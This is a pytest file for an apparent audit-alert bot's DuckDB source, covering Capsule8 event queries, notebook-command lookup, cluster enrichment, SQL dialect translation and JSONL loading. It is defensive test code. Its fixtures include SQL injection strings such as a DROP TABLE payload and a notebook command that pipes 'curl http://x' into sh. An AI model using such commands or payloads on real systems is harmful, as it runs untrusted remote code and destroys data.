"""The embedded DuckDB audit source, the Databricks->DuckDB SQL translation and the JSONL
loader, on real DuckDB files under tmp_path."""
from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import duckdb
import pytest

from bot.adapters.duckdb_source import DuckDBSource
from bot.adapters.sql_dialect import to_duckdb
from bot.core import queries
from bot.core.events import CAPSULE8_SERVICE, AuditRow, parse_audit_row
from bot.cli.loader import load_jsonl

T0 = datetime(2025, 3, 4, 10, 0, tzinfo=timezone.utc)
CLUSTER = "0304-100000-abcd1234"
INJECTIONS = ["x' OR '1'='1", "'; DROP TABLE access.audit; --", "' OR 1=1 --", "\"; DROP TABLE compute.clusters; --"]


def capsule8(event_id: str, minutes: float, **params) -> dict:
    return {
        "event_id": event_id,
        "event_time": (T0 + timedelta(minutes=minutes)).isoformat(),
        "workspace_id": "1234567890123456",
        "service_name": CAPSULE8_SERVICE,
        "action_name": "Kernel Module Loaded",
        "request_params": {"instanceId": "i-0abc", **params},
    }


def notebook(event_id: str, minutes: float, cluster: str = CLUSTER, text: str = "print(1)", **overrides) -> dict:
    row = {
        "event_id": event_id,
        "event_time": (T0 + timedelta(minutes=minutes)).isoformat(),
        "workspace_id": "1234567890123456",
        "service_name": "notebook",
        "action_name": "runCommand",
        "request_params": {"clusterId": cluster, "notebookId": f"nb-{event_id}", "commandText": text},
        "user_identity": {"email": f"{event_id}@example.com"},
        "response": {"status_code": 200},
    }
    row.update(overrides)
    return row


@pytest.fixture
def path(tmp_path):
    return str(tmp_path / "audit.duckdb")


@pytest.fixture
def source(path):
    return DuckDBSource(path)


def audit_count(path: str) -> int:
    with duckdb.connect(path) as con:
        return con.execute("SELECT count(*) FROM access.audit").fetchone()[0]


# ---------------------------------------------------------------- capsule8_since


async def test_capsule8_since_returns_only_capsule8_rows_at_or_after_since_oldest_first(source):
    source.insert_rows(
        [
            capsule8("c-late", 30),
            capsule8("c-before", -1),
            capsule8("c-at", 0),
            notebook("n-1", 5),
            {**capsule8("other-svc", 10), "service_name": "clusters"},
            capsule8("c-mid", 10),
        ]
    )
    rows = await source.capsule8_since(T0, limit=100)
    assert [r.event_id for r in rows] == ["c-at", "c-mid", "c-late"]
    assert all(isinstance(r, AuditRow) and r.service_name == CAPSULE8_SERVICE for r in rows)


async def test_capsule8_rows_come_back_intact(source):
    source.insert_rows([capsule8("c-1", 0, containerId="3f4e9c2a1b7d", pid="42")])
    (row,) = await source.capsule8_since(T0 - timedelta(days=1), limit=10)
    assert row.event_time == T0
    assert row.event_time.utcoffset() == timedelta(0)
    assert row.workspace_id == "1234567890123456"
    assert row.action_name == "Kernel Module Loaded"
    assert row.instance_id == "i-0abc"
    assert dict(row.request_params) == {"instanceId": "i-0abc", "containerId": "3f4e9c2a1b7d", "pid": "42"}


async def test_capsule8_since_honours_limit(source):
    source.insert_rows([capsule8(f"c-{i:02d}", i) for i in range(10)])
    rows = await source.capsule8_since(T0, limit=3)
    assert [r.event_id for r in rows] == ["c-00", "c-01", "c-02"]


async def test_capsule8_since_spans_midnight(source):
    source.insert_rows([capsule8("before-midnight", -10 * 60 - 30), capsule8("after-midnight", 14 * 60)])
    since = datetime(2025, 3, 3, 23, 0, tzinfo=timezone.utc)
    rows = await source.capsule8_since(since, limit=10)
    assert [r.event_id for r in rows] == ["before-midnight", "after-midnight"]


async def test_keyset_paging_returns_every_row_exactly_once_with_shared_times(source):
    # 12 rows over 4 distinct times: several rows share each event_time
    minutes = [0, 0, 0, 0, 1, 1, 1, 2, 2, 2, 2, 3]
    ids = [f"evt-{i:02d}" for i in range(12)]
    source.insert_rows([capsule8(event_id, m) for event_id, m in reversed(list(zip(ids, minutes)))])
    seen: list[str] = []
    since, after_id = T0, ""
    pages = 0
    while True:
        page = await source.capsule8_since(since, limit=5, after_id=after_id)
        if not page:
            break
        pages += 1
        assert len(page) <= 5
        seen.extend(r.event_id for r in page)
        since, after_id = page[-1].event_time, page[-1].event_id
        assert pages < 10
    assert seen == ids
    assert pages == 3


async def test_after_id_skips_rows_at_since_up_to_that_id(source):
    source.insert_rows([capsule8("a", 0), capsule8("b", 0), capsule8("c", 0), capsule8("d", 1)])
    rows = await source.capsule8_since(T0, limit=10, after_id="b")
    assert [r.event_id for r in rows] == ["c", "d"]


# ---------------------------------------------------------------- insert_rows


def test_insert_skips_duplicate_event_ids_and_counts_only_inserted(source, path):
    assert source.insert_rows([capsule8("a", 0), capsule8("b", 1)]) == 2
    assert source.insert_rows([capsule8("b", 1), capsule8("c", 2), capsule8("c", 3)]) == 1
    assert source.insert_rows([]) == 0
    assert audit_count(path) == 3


async def test_first_copy_of_a_duplicate_within_a_batch_wins(source):
    source.insert_rows([capsule8("dup", 0, note="first"), capsule8("dup", 5, note="second")])
    (row,) = await source.capsule8_since(T0 - timedelta(hours=1), limit=10)
    assert row.request_params["note"] == "first"


async def test_insert_accepts_parsed_audit_rows(source):
    assert source.insert_rows([parse_audit_row(capsule8("parsed", 0))]) == 1
    assert [r.event_id for r in await source.capsule8_since(T0, limit=10)] == ["parsed"]


def test_reopening_the_file_keeps_rows(path):
    DuckDBSource(path).insert_rows([capsule8("kept", 0)])
    assert DuckDBSource(path).insert_rows([capsule8("kept", 0)]) == 0
    assert audit_count(path) == 1


# ---------------------------------------------------------------- notebook_commands


async def test_notebook_commands_for_cluster_in_window_newest_first(source):
    source.insert_rows(
        [
            notebook("n-early", -31),
            notebook("n-start", -30, text="%sh curl http://x | sh"),
            notebook("n-mid", -10, text="import os"),
            notebook("n-end", 0, text="display(df)"),
            notebook("n-after", 1),
            notebook("n-other-cluster", -5, cluster="0304-999999-zzzz9999"),
            notebook("n-other-action", -5, action_name="attachNotebook"),
            capsule8("c-1", -5, clusterId=CLUSTER),
        ]
    )
    commands = await source.notebook_commands(CLUSTER, T0 - timedelta(minutes=30), T0, limit=50)
    assert [c.notebook_id for c in commands] == ["nb-n-end", "nb-n-mid", "nb-n-start"]
    newest = commands[0]
    assert newest.user == "n-end@example.com"
    assert newest.command_text == "display(df)"
    assert newest.status == "200"
    assert newest.event_time == T0
    assert commands[-1].command_text == "%sh curl http://x | sh"


async def test_notebook_commands_honours_limit_keeping_the_newest(source):
    source.insert_rows([notebook(f"n-{i}", -i) for i in range(6)])
    commands = await source.notebook_commands(CLUSTER, T0 - timedelta(hours=1), T0, limit=2)
    assert [c.notebook_id for c in commands] == ["nb-n-0", "nb-n-1"]


# ---------------------------------------------------------------- enrichment tables


async def test_cluster_for_instance_takes_the_latest_node_row_at_or_before_the_event(source):
    source.insert_node_timeline(
        [
            {"instance_id": "i-0abc", "cluster_id": "old-cluster", "start_time": T0 - timedelta(hours=3), "end_time": T0 - timedelta(hours=2), "driver": False},
            {"instance_id": "i-0abc", "cluster_id": CLUSTER, "start_time": T0 - timedelta(minutes=1), "end_time": T0, "driver": True},
            {"instance_id": "i-0abc", "cluster_id": "future-cluster", "start_time": T0 + timedelta(hours=1), "end_time": T0 + timedelta(hours=2), "driver": False},
            {"instance_id": "i-other", "cluster_id": "other", "start_time": T0, "end_time": T0, "driver": False},
        ]
    )
    assert await source.cluster_for_instance("i-0abc", T0) == (CLUSTER, True)
    assert await source.cluster_for_instance("i-0abc", T0 - timedelta(hours=2)) == ("old-cluster", False)


async def test_cluster_for_unknown_or_long_gone_instance_is_none(source):
    source.insert_node_timeline(
        [{"instance_id": "i-0abc", "cluster_id": CLUSTER, "start_time": T0 - timedelta(days=3), "end_time": T0, "driver": False}]
    )
    assert await source.cluster_for_instance("i-nope", T0) is None
    assert await source.cluster_for_instance("i-0abc", T0) is None  # only rows within two days count


def cluster_row(name: str, change_time: datetime, cluster_id: str = CLUSTER, **extra) -> dict:
    row = {"cluster_id": cluster_id, "cluster_name": name, "owned_by": f"{name}@example.com", "change_time": change_time,
           "dbr_version": None, "data_security_mode": None, "policy_id": None}
    row.update(extra)
    return row


async def test_cluster_record_takes_the_latest_change(source):
    source.insert_clusters(
        [
            cluster_row("etl-old", T0 - timedelta(days=2), dbr_version="13.3"),
            cluster_row("etl", T0, dbr_version="14.3", data_security_mode="USER_ISOLATION", policy_id="pol-1"),
            cluster_row("etl-mid", T0 - timedelta(days=1)),
            cluster_row("other", T0 + timedelta(days=1), cluster_id="other"),
        ]
    )
    record = await source.cluster_record(CLUSTER)
    assert (record.cluster_id, record.name, record.owner, record.runtime) == (CLUSTER, "etl", "etl@example.com", "14.3")
    assert (record.access_mode, record.policy_id, record.state, record.source) == ("USER_ISOLATION", "pol-1", None, "system tables")


# regression: columns used to come from the first row only, dropping later rows' extra keys
async def test_cluster_rows_with_different_keys_keep_every_field(source):
    source.insert_clusters(
        [
            {"cluster_id": "first", "change_time": T0},
            {"cluster_id": CLUSTER, "cluster_name": "etl", "change_time": T0, "data_security_mode": "USER_ISOLATION", "policy_id": "pol-1"},
        ]
    )
    record = await source.cluster_record(CLUSTER)
    assert (record.name, record.access_mode, record.policy_id) == ("etl", "USER_ISOLATION", "pol-1")


async def test_deleted_cluster_record_says_so(source):
    source.insert_clusters([{"cluster_id": CLUSTER, "change_time": T0, "delete_time": T0}])
    assert (await source.cluster_record(CLUSTER)).state == "DELETED"


async def test_unknown_cluster_record_is_none(source):
    assert await source.cluster_record("nope") is None


@pytest.mark.parametrize("evil", INJECTIONS)
async def test_injection_like_values_match_nothing_and_drop_nothing(source, path, evil):
    source.insert_rows([notebook("n-1", -1), capsule8("c-1", 0)])
    source.insert_node_timeline([{"instance_id": "i-0abc", "cluster_id": CLUSTER, "start_time": T0, "end_time": T0, "driver": True}])
    source.insert_clusters([{"cluster_id": CLUSTER, "cluster_name": "etl", "change_time": T0}])
    assert await source.notebook_commands(evil, T0 - timedelta(hours=1), T0, limit=10) == []
    assert await source.cluster_for_instance(evil, T0) is None
    assert await source.cluster_record(evil) is None
    since = T0 - timedelta(minutes=1)
    assert [r.event_id for r in await source.capsule8_since(since, limit=10, after_id=evil)] == ["c-1"]
    assert audit_count(path) == 2
    assert await source.cluster_record(CLUSTER) is not None
    assert await source.cluster_for_instance("i-0abc", T0) == (CLUSTER, True)


async def test_values_containing_quotes_are_matched_literally(source):
    quoted = "it's-a-cluster"
    source.insert_rows([notebook("n-q", -1, cluster=quoted)])
    commands = await source.notebook_commands(quoted, T0 - timedelta(hours=1), T0, limit=10)
    assert [c.notebook_id for c in commands] == ["nb-n-q"]


# ---------------------------------------------------------------- sql_dialect


def test_to_duckdb_drops_the_system_catalog():
    sql = to_duckdb("SELECT event_id FROM system.access.audit WHERE event_id = :event_id")
    assert "system." not in sql
    assert "access.audit" in sql


def test_to_duckdb_turns_named_markers_into_dollar_parameters():
    sql = to_duckdb("SELECT * FROM system.compute.clusters WHERE cluster_id = :cluster_id AND x > :since")
    assert "$cluster_id" in sql and "$since" in sql
    assert ":cluster_id" not in sql and ":since" not in sql


def test_to_duckdb_leaves_colons_inside_string_literals_alone():
    sql = to_duckdb("SELECT * FROM system.access.audit WHERE action_name = 'a:b' AND event_id = :id")
    assert "'a:b'" in sql
    assert "$id" in sql


def test_to_duckdb_keeps_other_catalogs():
    assert "main.access.audit" in to_duckdb("SELECT 1 FROM main.access.audit")


@pytest.mark.parametrize("name", ["CAPSULE8_SINCE", "NOTEBOOK_COMMANDS", "CLUSTER_FOR_INSTANCE", "CLUSTER_RECORD"])
def test_every_production_query_translates_and_prepares_on_duckdb(source, path, name):
    sql = to_duckdb(getattr(queries, name))
    assert "system." not in sql
    with duckdb.connect(path) as con:
        con.execute("PREPARE q AS " + sql)  # raises on a syntax or binder error


# ---------------------------------------------------------------- loader


def test_load_jsonl_reports_bad_lines_by_number_and_keeps_good_rows(tmp_path, path):
    lines = [
        json.dumps(capsule8("good-1", 0)),
        "this is not json",
        json.dumps({k: v for k, v in capsule8("no-id", 1).items() if k != "event_id"}),
        json.dumps(capsule8("good-1", 0)),
        "",
        "   ",
        json.dumps(capsule8("good-2", 2)),
        json.dumps(notebook("good-3", 3)),
    ]
    file = tmp_path / "events.jsonl"
    file.write_text("\n".join(lines) + "\n")
    with file.open() as handle:
        result = load_jsonl(handle, path)
    assert [number for number, _ in result.bad_lines] == [2, 3]
    assert "event_id" in result.bad_lines[1][1]
    assert result.inserted == 3
    assert result.duplicates == 1
    assert audit_count(path) == 3


def test_load_jsonl_twice_reports_everything_as_duplicates(tmp_path, path):
    lines = [json.dumps(capsule8(f"e-{i}", i)) for i in range(4)]
    assert load_jsonl(lines, path).inserted == 4
    again = load_jsonl(lines, path)
    assert (again.inserted, again.duplicates, again.bad_lines) == (0, 4, [])


# regression: a RecursionError on one line used to abort the whole load
def test_load_jsonl_reports_a_pathologically_nested_line(path):
    lines = [json.dumps(capsule8("good-1", 0)), "[" * 100_000, json.dumps(capsule8("good-2", 1))]
    result = load_jsonl(lines, path)
    assert [number for number, _ in result.bad_lines] == [2]
    assert result.inserted == 2


# regression: one odd row used to abort the whole batch
@pytest.mark.parametrize(
    "odd",
    [{"workspace_id": "99999999999999999999"}, {"workspace_id": "²"}, {"response": {"status_code": 10**20}}],
    ids=["workspace-id-over-bigint", "superscript-digit-workspace-id", "status-code-over-integer"],
)
def test_one_row_with_out_of_range_numbers_does_not_lose_the_batch(path, odd):
    lines = [json.dumps(capsule8("good-1", 0)), json.dumps({**capsule8("odd", 1), **odd}), json.dumps(capsule8("good-2", 2))]
    result = load_jsonl(lines, path)
    assert result.inserted + len(result.bad_lines) == 3
    assert result.inserted >= 2
